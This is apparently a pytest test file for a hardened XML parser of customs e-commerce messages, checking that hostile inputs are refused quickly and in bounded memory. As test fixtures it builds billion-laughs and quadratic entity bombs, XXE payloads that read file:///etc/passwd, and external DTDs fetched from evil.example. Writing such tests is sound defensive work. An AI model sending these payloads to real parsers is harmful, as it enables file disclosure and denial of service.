"""Hostile input: every byte an enterprise sends passes the hardened parser first.

Entity bombs, external entities and DTDs, oversized and overdeep documents are refused quickly, in bounded
memory, with a finding (never an exception).  Time is measured with ``perf_counter`` and Python memory with
``tracemalloc`` after a warm-up decode, so imports and first-call caches are not counted.
"""

from __future__ import annotations

import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from cbec.messages.decode import DecodedMessage, decode

MB = 1024 * 1024
ROOT_OPEN = b'<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb" guid="X" version="1.0">'
ROOT_CLOSE = b"</ceb:CEB311Message>"
REFUSALS = {"xml.dtd_forbidden", "xml.too_large", "xml.too_deep", "xml.malformed"}


@pytest.fixture(scope="module", autouse=True)
def warm() -> None:
    """First calls import and cache things (polars, code tables); they are not what is measured."""
    decode(
        ROOT_OPEN
        + b"<ceb:Order><ceb:OrderHead><ceb:orderNo>1</ceb:orderNo></ceb:OrderHead></ceb:Order>"
        + ROOT_CLOSE
    )
    decode(b"<x/>")


@pytest.fixture(autouse=True)
def default_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CBEC_MAX_MESSAGE_BYTES", raising=False)


# a guard against inputs that blow up (an expansion would take minutes or exhaust memory; the memory peak is
# checked too), not a performance target: a loaded CI VM can stall a millisecond's work for a second
BLOWUP_SECONDS = 5.0


def measured(data: bytes) -> tuple[DecodedMessage, float, int]:
    """Decode, returning the result, the wall time and the peak of Python allocations during the call."""
    tracemalloc.start()
    try:
        start = time.perf_counter()
        decoded = decode(data)
        elapsed = time.perf_counter() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return decoded, elapsed, peak


def _refused(decoded: DecodedMessage, code: str) -> None:
    codes = [e.code for e in decoded.errors]
    assert codes == [code], [str(e) for e in decoded.errors]
    assert decoded.documents == []
    assert decoded.errors[0].dxp_code == "0001"


def billion_laughs(levels: int = 10) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        entities.append(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10))
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE ceb:CEB311Message [\n'
        + b"\n".join(entities)
        + b"\n]>\n"
        + ROOT_OPEN
        + b"<ceb:Order><ceb:OrderHead><ceb:note>&lol%d;</ceb:note>" % (levels - 1)
        + b"</ceb:OrderHead></ceb:Order>"
        + ROOT_CLOSE
    )


def xxe(target: str = "file:///etc/passwd") -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "'
        + target.encode()
        + b'">]>\n'
        + ROOT_OPEN
        + b"<ceb:Order><ceb:OrderHead><ceb:orderNo>&xxe;</ceb:orderNo></ceb:OrderHead></ceb:Order>"
        + ROOT_CLOSE
    )


def external_dtd(target: str = "http://evil.example/ceb.dtd") -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE ceb:CEB311Message SYSTEM "'
        + target.encode()
        + b'">\n'
        + ROOT_OPEN
        + ROOT_CLOSE
    )


def parameter_entity() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>\n'
        + ROOT_OPEN
        + ROOT_CLOSE
    )


def quadratic_blowup(size: int = 100_000, refs: int = 50_000) -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
        + b"A" * size
        + b'">]>\n'
        + ROOT_OPEN
        + b"<ceb:Order><ceb:OrderHead><ceb:note>"
        + b"&a;" * refs
        + b"</ceb:note></ceb:OrderHead></ceb:Order>"
        + ROOT_CLOSE
    )


def deep(levels: int = 10_000) -> bytes:
    return ROOT_OPEN + b"<ceb:Order>" * levels + b"</ceb:Order>" * levels + ROOT_CLOSE


def hidden(data: bytes) -> bytes:
    """The same attack behind a prolog comment containing '<a' (a naive 'first element' scan stops there)."""
    return b"<!-- <a -->\n" + data.split(b"?>", 1)[1]


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "billion-laughs": (billion_laughs, "xml.dtd_forbidden"),
    "xxe-file": (xxe, "xml.dtd_forbidden"),
    "xxe-http": (lambda: xxe("http://evil.example/secret"), "xml.dtd_forbidden"),
    "external-dtd": (external_dtd, "xml.dtd_forbidden"),
    "external-dtd-file": (lambda: external_dtd("file:///etc/passwd"), "xml.dtd_forbidden"),
    "parameter-entity": (parameter_entity, "xml.dtd_forbidden"),
    "quadratic-blowup": (quadratic_blowup, "xml.dtd_forbidden"),
    "lower-case-doctype": (lambda: billion_laughs().replace(b"<!DOCTYPE", b"<!doctype"), "xml.dtd_forbidden"),
    "doctype-after-bom": (lambda: b"\xef\xbb\xbf" + xxe(), "xml.dtd_forbidden"),
    "doctype-in-utf16": (
        lambda: (
            xxe().decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>').encode("utf-16")
        ),
        "xml.dtd_forbidden",
    ),
    "doctype-in-gbk": (
        lambda: xxe().replace(b'version="1.0"?>', b'version="1.0" encoding="GBK"?>'),
        "xml.dtd_forbidden",
    ),
    "deep-nesting": (deep, "xml.too_deep"),
    "deep-nesting-plain": (lambda: b"<a>" * 10_000 + b"</a>" * 10_000, "xml.too_deep"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_input_is_refused_fast_and_small(name: str) -> None:
    build, code = HOSTILE[name]
    data = build()
    decoded, elapsed, peak = measured(data)
    _refused(decoded, code)
    assert elapsed < BLOWUP_SECONDS, f"{name}: {elapsed:.3f}s"
    assert peak < 64 * MB, f"{name}: {peak / MB:.1f} MB"


@pytest.mark.parametrize("name", ["billion-laughs", "xxe-file", "external-dtd", "quadratic-blowup"])
def test_hidden_doctype_is_still_refused_fast_and_small(name: str) -> None:
    data = hidden(HOSTILE[name][0]())
    decoded, elapsed, peak = measured(data)
    assert decoded.errors
    assert {e.code for e in decoded.errors} <= REFUSALS, [str(e) for e in decoded.errors]
    assert elapsed < BLOWUP_SECONDS
    assert peak < 64 * MB


def test_hidden_external_dtd_is_refused_without_reading_it(tmp_path: Path) -> None:
    secret = tmp_path / "secret.dtd"
    secret.write_text("SECRET-CONTENT-NOT-A-DTD\n", encoding="utf-8")
    data = hidden(external_dtd(secret.as_uri()))
    decoded = decode(data)
    assert [e.code for e in decoded.errors] == ["xml.dtd_forbidden"], [str(e) for e in decoded.errors]
    assert not any("external subset" in e.message_en or "secret" in e.message_en for e in decoded.errors)


def test_fifty_megabytes_is_refused_before_parsing() -> None:
    body = b"<ceb:note>x</ceb:note>" * (50 * MB // 22)
    data = b'<?xml version="1.0"?>' + ROOT_OPEN + body + ROOT_CLOSE
    assert len(data) > 50 * 1024 * 1000
    decoded, elapsed, peak = measured(data)  # the input was allocated before tracing started
    _refused(decoded, "xml.too_large")
    assert str(len(data)) in decoded.errors[0].message_en
    assert elapsed < BLOWUP_SECONDS
    assert peak < 16 * MB, f"{peak / MB:.1f} MB beyond the input"


def test_size_limit_is_configurable(
    monkeypatch: pytest.MonkeyPatch, load_sample: Callable[[str], bytes]
) -> None:
    data = load_sample("CEB311")
    monkeypatch.setenv("CBEC_MAX_MESSAGE_BYTES", str(len(data) - 1))
    _refused(decode(data), "xml.too_large")
    monkeypatch.setenv("CBEC_MAX_MESSAGE_BYTES", str(len(data)))
    assert decode(data).ok


def test_nesting_within_the_limit_is_read(load_sample: Callable[[str], bytes]) -> None:
    """CEB messages need under ten levels; 200 levels of junk inside a field is a field error, not a crash."""
    text = load_sample("CEB311").decode("utf-8-sig")
    junk = "<ceb:x>" * 200 + "</ceb:x>" * 200
    decoded = decode(text.replace("<ceb:note>test</ceb:note>", f"<ceb:note>{junk}</ceb:note>", 1).encode())
    assert [e.code for e in decoded.errors] == ["field.nested"]


# --- encodings at the door ----------------------------------------------------------------------------------


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_bom_decodes(load_sample: Callable[[str], bytes], codec: str) -> None:
    text = load_sample("CEB311").decode("utf-8-sig").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    data = text.encode(codec)
    if codec != "utf-16":
        data = ("\ufeff".encode(codec)) + data
    assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    decoded = decode(data)
    reference = decode(load_sample("CEB311"))
    assert decoded.errors == [] and decoded.warnings == []
    assert decoded.encoding == "UTF-16"
    assert [d.head for d in decoded.documents] == [d.head for d in reference.documents]
    assert decoded.documents[0].head["consignee"] == "焦洪宇"


@pytest.mark.parametrize("name", ["X-NOPE", "klingon-8", "UTF-9"])
def test_unknown_declared_encoding_is_a_clear_error(load_sample: Callable[[str], bytes], name: str) -> None:
    text = load_sample("CEB311").decode("utf-8-sig").replace('encoding="UTF-8"', f'encoding="{name}"', 1)
    decoded = decode(text.encode("utf-8"))
    assert [e.code for e in decoded.errors] == ["xml.encoding"]
    error = decoded.errors[0]
    assert error.dxp_code == "0001"
    assert name.lower() in error.message_en.lower()
    assert decoded.documents == []


def test_bytes_invalid_in_their_declared_encoding(load_sample: Callable[[str], bytes]) -> None:
    text = load_sample("CEB311").decode("utf-8-sig").replace('encoding="UTF-8"', 'encoding="ascii"', 1)
    decoded = decode(text.encode("utf-8"))
    assert [e.code for e in decoded.errors] == ["xml.encoding"]


def test_invalid_utf8_that_is_not_gbk_either() -> None:
    data = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + ROOT_OPEN
        + b"<ceb:Order>\xff\xff\xff</ceb:Order>"
        + ROOT_CLOSE
    )
    decoded = decode(data)
    assert decoded.errors
    assert {e.code for e in decoded.errors} <= {"xml.encoding", "xml.malformed"}
